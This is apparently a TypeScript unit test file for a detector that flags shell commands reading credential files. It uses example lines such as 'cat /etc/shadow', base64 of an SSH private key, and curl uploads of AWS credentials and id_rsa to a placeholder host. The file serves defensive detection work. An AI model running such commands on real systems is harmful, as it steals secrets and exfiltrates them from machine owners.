import { expect, test } from 'vitest';
import type { Call } from './call.ts';
import { readsCredentials } from './credentials.ts';
import { known } from './values.ts';

function call(line: string, input?: Call['input']): Call {
  const argv = line.split(' ').map(known);
  return { name: argv[0]?.text ?? '', argv, input, written: [], read: [], start: 0, end: line.length };
}

test.each([
  'cat /etc/shadow',
  'base64 ~/.ssh/id_rsa',
  'curl -d @/root/.aws/credentials x',
  'curl -T ~/.netrc x',
  'curl -F f=@/home/a/.ssh/id_rsa x',
  'tar cz ~/.ssh',
  "python3 -c open('/etc/shadow')",
  'dd if=/etc/shadow',
  'find ~/.ssh -exec cat {} ;',
])('%s reads them', (line) => expect(readsCredentials(call(line))).toBe(true));

test.each([
  'ssh -i ~/.ssh/id_rsa h',
  'scp -i ~/.ssh/id_rsa a h:',
  'chmod 600 ~/.ssh/id_rsa',
  'curl --netrc-file ~/.netrc x',
  'cat a',
  'find ~/.ssh -type f',
])('%s does not', (line) => expect(readsCredentials(call(line))).toBe(false));

test('by redirection too', () => expect(readsCredentials({ ...call('x'), read: [known('/etc/shadow')] })).toBe(true));
